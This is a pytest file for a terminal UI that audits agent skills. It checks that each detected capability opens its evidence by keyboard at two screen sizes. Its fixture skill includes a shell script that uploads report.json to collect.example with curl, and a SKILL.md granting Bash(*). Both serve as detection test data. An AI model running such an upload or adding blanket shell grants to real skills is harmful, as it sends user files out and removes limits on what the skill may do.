"""Each line of the overview's "What it can do" list opens its evidence, by keyboard alone, at 80x24 and 160x45.

A real stdio server serves a skill whose script sends a report to collect.example on line 4 and whose
SKILL.md grants Bash(*). After an audit, Tab reaches the list (after the file table), Enter on
"sends to collect.example" shows scripts/x.sh with line 4 marked, and Enter on the grant shows SKILL.md
at its frontmatter line. The honest twin recognises nothing: no list is drawn and Tab leaves the pane.
"""

from __future__ import annotations

import pytest

from skillscope.catalog.entry import Policy
from skillscope.protocol.target import Target
from skillscope.service.targets import ServerSeed
from skillscope.tui.app import make_app
from skillscope.tui.widgets.file_viewer import FileViewer
from skillscope.tui.widgets.skill_overview import CapabilityList, FileTable
from tests.cli.test_cli_capabilities import SERVE
from tests.fixtures.http import REPO_ROOT
from tests.fixtures.script_server import script_server
from tests.tui.helpers import at_rest, audited, laying_out, running, screen_text, select, settings_for, wait_until

pytestmark = pytest.mark.anyio

SIZES = pytest.mark.parametrize("size", [(80, 24), (160, 45)], ids=["80x24", "160x45"])

SKILL_MD = (
    "---\nname: report-sync\ndescription: Sends the weekly report on.\nallowed-tools: Bash(*)\n---\n"
    "# Report sync\n\nRun `scripts/x.sh` once the report is written.\n"
)
SENDING = "#!/bin/sh\nset -eu\n# the weekly report\ncurl -fsS https://collect.example/upload -d @report.json\n"
QUIET = "#!/bin/sh\nset -eu\necho 'the report is written'\n"
QUIET_MD = "---\nname: report-sync\ndescription: Says the report is written.\n---\n# Report sync\n\nRead it.\n"


def _seed(tmp_path, skill_md: str, script: str) -> ServerSeed:
    folder = tmp_path / "skill"
    (folder / "scripts").mkdir(parents=True)
    (folder / "SKILL.md").write_text(skill_md)
    (folder / "scripts" / "x.sh").write_text(script)
    serve = tmp_path / "serve.py"
    serve.write_text(SERVE)
    command = tuple(script_server(serve, str(folder)))
    return ServerSeed(
        Target(label="team", kind="stdio", command=command, cwd=str(REPO_ROOT)), None, "command-line", Policy()
    )


async def _audited_overview(pilot, app):
    view = await select(pilot, "report-sync", server="team")
    await audited(pilot, view)
    detail = app.main_screen.detail
    detail.activate("overview")
    app.main_screen.catalog_tree.focus()
    await at_rest(pilot)
    return view, detail


async def _highlight(pilot, listing: CapabilityList, words: str) -> None:
    """Move the list's highlight with ↓ to the option whose line reads ``words``."""
    await pilot.press("home")
    for _ in range(listing.option_count):
        option = listing.get_option_at_index(listing.highlighted or 0)
        if words in " ".join(str(option.prompt).split()):
            return
        await pilot.press("down")
    raise AssertionError(f"no line reads {words!r}")


@SIZES
async def test_enter_on_a_capability_opens_the_file_at_its_evidence(tmp_path, size):
    app = make_app(settings_for([_seed(tmp_path, SKILL_MD, SENDING)], tmp_path))
    app.animation_level = "none"
    async with running(app, size=size) as pilot:
        _view, detail = await _audited_overview(pilot, app)
        await pilot.press("tab")  # catalog -> the detail pane's first stop, the file table
        assert isinstance(app.focused, FileTable)
        await pilot.press("tab")  # -> what the skill can do
        listing = detail.query_one(CapabilityList)
        assert app.focused is listing
        await at_rest(pilot)
        shown = screen_text(app)
        assert "sends to  collect.example" in shown and "scripts/x.sh:4" in shown, shown
        await _highlight(pilot, listing, "sends to collect.example")
        await pilot.press("enter")
        viewer = detail.query_one(FileViewer)
        await wait_until(
            pilot,
            lambda: viewer.path == "scripts/x.sh" and not laying_out(app) and viewer.source is not None,
            what="scripts/x.sh laid out",
        )
        await wait_until(pilot, lambda: viewer.source.marked is not None, what="the line marked")
        await at_rest(pilot)
        assert detail.query_one("#tabs").active == "file"
        assert viewer.source.marked[0] == 4
        shown = screen_text(app)
        assert "4 │ curl -fsS https://collect.example" in shown, shown
        assert app.focused is viewer

        # Back on the overview, the grant opens SKILL.md at its frontmatter line.
        detail.activate("overview")
        listing.focus()
        await at_rest(pilot)
        await _highlight(pilot, listing, "grants Bash(*)")
        await pilot.press("enter")
        await wait_until(pilot, lambda: detail.query_one("#tabs").active == "skill-md", what="SKILL.md shown")
        assert detail._skill_md_source is not None and detail._skill_md_source.marked[0] == 4


@SIZES
async def test_tab_from_the_list_leaves_the_pane_and_shift_tab_comes_back_through_it(tmp_path, size):
    app = make_app(settings_for([_seed(tmp_path, SKILL_MD, SENDING)], tmp_path))
    app.animation_level = "none"
    async with running(app, size=size) as pilot:
        _view, detail = await _audited_overview(pilot, app)
        await pilot.press("tab", "tab")
        assert isinstance(app.focused, CapabilityList)
        await pilot.press("shift+tab")
        assert isinstance(app.focused, FileTable), "shift+tab goes back to the file table first"
        await pilot.press("tab", "tab")
        assert app.main_screen.focus_area() == "servers", "past the list, Tab leaves the pane"


@SIZES
async def test_a_skill_that_can_do_nothing_recognised_has_no_list_to_tab_into(tmp_path, size):
    app = make_app(settings_for([_seed(tmp_path, QUIET_MD, QUIET)], tmp_path))
    app.animation_level = "none"
    async with running(app, size=size) as pilot:
        _view, detail = await _audited_overview(pilot, app)
        detail.query_one("SkillOverview").scroll_end(animate=False)
        await at_rest(pilot)
        assert "Nothing the audit recognises" in " ".join(screen_text(app).split())
        assert not detail.query_one(CapabilityList).display
        await pilot.press("tab")
        assert isinstance(app.focused, FileTable)
        await pilot.press("tab")
        assert app.main_screen.focus_area() == "servers"
